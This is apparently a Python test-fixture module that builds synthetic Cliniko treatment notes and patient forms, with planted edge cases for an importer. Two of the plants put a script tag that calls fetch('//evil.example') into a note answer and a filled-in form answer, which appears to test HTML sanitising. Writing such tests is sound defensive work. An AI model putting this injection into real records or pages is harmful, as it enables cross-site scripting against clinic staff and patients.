"""The content of treatment notes and patient forms: sections, questions and answers, as Cliniko's API writes them."""

from random import Random
from typing import NotRequired, TypedDict

from app.sources.cliniko.sample.prose import Prose


class WrittenAnswer(TypedDict, total=False):
    """An option of a question, and whether the client or practitioner chose the option."""

    value: str
    selected: bool
    enabled: bool


class WrittenQuestion(TypedDict):
    """A question. A choice has `answers`, and perhaps `other` for an answer in words; other types have `answer`."""

    name: str
    type: str
    answer: NotRequired[str]
    answers: NotRequired[list[WrittenAnswer]]
    other: NotRequired[WrittenAnswer]
    required: NotRequired[bool]
    signature_id: NotRequired[str]
    body_chart_ids: NotRequired[list[str]]


class WrittenSection(TypedDict):
    """A section: its heading, a description in HTML, and questions."""

    name: str
    description: NotRequired[str]
    questions: list[WrittenQuestion]


class WrittenContent(TypedDict):
    """The content of a note, a form or a template."""

    sections: list[WrittenSection]


PAIN = ("None", "Mild", "Moderate", "Severe")
GIVEN = ("Soft tissue", "Mobilisation", "Exercise", "Taping", "Dry needling", "Education")


def _paragraph(name: str, answer: str) -> WrittenQuestion:
    return {"name": name, "type": "paragraph", "answer": answer}


def _radio(name: str, options: tuple[str, ...], chosen: tuple[int, ...]) -> WrittenQuestion:
    answers: list[WrittenAnswer] = [
        {"value": o, "selected": True} if i in chosen else {"value": o} for i, o in enumerate(options)
    ]
    return {"name": name, "type": "radiobuttons", "answers": answers}


def visit_note(rng: Random, prose: Prose) -> WrittenContent:
    """A plain note of one visit, one to three kilobytes."""
    subjective, objective = (
        prose.sentences("subjective", rng.randrange(3, 9)),
        prose.sentences("objective", rng.randrange(2, 8)),
    )
    treatment, plan = prose.sentences("treatment", rng.randrange(2, 6)), prose.sentences("plan", rng.randrange(2, 5))
    chosen = rng.sample(range(len(GIVEN)), k=2)
    return {
        "sections": [
            {
                "name": "Subjective",
                "questions": [
                    _paragraph("How has it been?", f"<div>{subjective}</div>"),
                    _radio("Pain today", PAIN, (rng.randrange(len(PAIN)),)),
                ],
            },
            {
                "name": "Objective",
                "description": "<div>Compare <b>both sides</b>.</div>",
                "questions": [
                    _paragraph("Findings", f"<div>{objective}</div>"),
                    {"name": "Area", "type": "text", "answer": prose.part()},
                ],
            },
            {
                "name": "Treatment and plan",
                "questions": [
                    {
                        "name": "Given today",
                        "type": "checkboxes",
                        "answers": [
                            {"value": option, "selected": True} if i in chosen else {"value": option}
                            for i, option in enumerate(GIVEN)
                        ],
                        "required": False,
                    },
                    _paragraph("Treatment", f"<div>{treatment}</div>"),
                    _paragraph("Plan", f"<ul><li>{plan}</li></ul>"),
                ],
            },
        ]
    }


def planted_content(name: str, rng: Random, prose: Prose) -> WrittenContent | str:
    """The content of a note with a plant: a plain note where the plant does not concern the content."""
    note = visit_note(rng, prose)
    sections = note["sections"]
    if name == "script":
        sections[0]["questions"][0]["answer"] = "<div>Better today.</div><script>fetch('//evil.example')</script>"
    elif name == "not_json":
        return "{'sections': [{'name': 'Subjective', 'questions': []}"
    elif name == "no_sections":
        return {"sections": []}
    elif name == "two_radios":
        sections[0]["questions"][1] = _radio("Pain today", PAIN, (1, 2))
    elif name == "description_only":
        return {
            "sections": [
                {"name": "Consent", "description": "<div>Risks explained, client agrees.</div>", "questions": []}
            ]
        }
    elif name == "emoji":
        sections[0]["questions"][0]["answer"] = "<div>Walked the dog 🐕 — “no pain” 🎉 &lt;first time&gt;</div>"
    elif name == "body_chart":
        sections.append({"name": "Chart", "questions": [_chart(("101", "102"))]})
    elif name == "every_question_type":
        sections.append({"name": "Everything", "questions": _every_type()})
    return note


def _chart(ids: tuple[str, ...]) -> WrittenQuestion:
    return {"name": "Where it hurts", "type": "bodycharts", "body_chart_ids": list(ids)}


def _every_type() -> list[WrittenQuestion]:
    other: WrittenAnswer = {"enabled": True, "selected": True, "value": "In the pool"}
    return [
        _chart(("103",)),
        {
            "name": "Helped by",
            "type": "checkboxes",
            "answers": [{"value": "Heat", "selected": True}, {"value": "Rest"}],
        },
        {"name": "Next review", "type": "date", "answer": "2026-12-04"},
        _paragraph("Impression", '<div><b>Settling</b><br><a href="https://example.org/">leaflet</a></div>'),
        {**_radio("Where to exercise", ("Home", "Gym"), ()), "other": other},
        {"name": "Assessment", "type": "text", "answer": "Rotator cuff <irritable>"},
        {"name": "Left blank", "type": "text", "answer": ""},
    ]


NOT_JSON = "{'sections': [{'name': 'Details', 'questions': []}"
LONG_ANSWER = "The stairs at work are the worst of it, and the bus home. " * 180
"""Longer than the answer of a form may be."""


def signature_id(index: int) -> str:
    """The id of the signature of a form, by the form's index."""
    return f"{565805660088820000 + index * 11}{1 + index % 9}"


def note_questions(description: str = "<div>Compare <b>both sides</b>.</div>") -> WrittenContent:
    """The content of a note template: questions without answers."""
    return {
        "sections": [
            {"name": "Subjective", "questions": [_asked("How has it been?", "paragraph"), _asked("Area", "text")]},
            {"name": "Objective", "description": description, "questions": [_radio("Pain today", PAIN, ())]},
        ]
    }


def form_questions() -> WrittenContent:
    """The content of a form template: questions without answers."""
    return {
        "sections": [
            {
                "name": "About you",
                "description": "<div>Please answer what you can.</div>",
                "questions": [
                    _asked("What brings you here?", "paragraph"),
                    _asked("Since when?", "date"),
                    _radio("Pain today", PAIN, ()),
                    _asked("Signed", "signature"),
                ],
            }
        ]
    }


def odd_question() -> WrittenContent:
    """A template with a question of an unknown type."""
    return {"sections": [{"name": "New", "questions": [_asked("How steep are the stairs?", "slider")]}]}


def filled_form(index: int, answer: str, odd: str = "") -> WrittenContent:
    """The content of a form that a client filled in. `odd` names the plant; `answer` replaces the first answer."""
    text = answer or f"My {('knee', 'shoulder', 'back')[index % 3]}, when I carry the shopping."
    if odd == "script":
        text += "<script>fetch('//evil.example')</script>"
    questions: list[WrittenQuestion] = [
        {"name": "What brings you here?", "type": "paragraph", "answer": text},
        {"name": "Since when?", "type": "date", "answer": f"2024-{1 + index % 12:02d}-{1 + index % 28:02d}"},
        _radio("Pain today", PAIN, (1, 2) if odd == "two_radios" else (index % len(PAIN),)),
        {"name": "Signed", "type": "signature", "signature_id": signature_id(index)},
    ]
    if odd == "odd_question":
        questions.append({"name": "How steep are the stairs?", "type": "slider", "answer": "7"})
    section: WrittenSection = {
        "name": "About you",
        "description": "<div>Please answer what you can.</div>",
        "questions": questions,
    }
    return {"sections": [section]}


def _asked(name: str, kind: str) -> WrittenQuestion:
    return {"name": name, "type": kind, "answer": ""} if kind != "signature" else {"name": name, "type": kind}
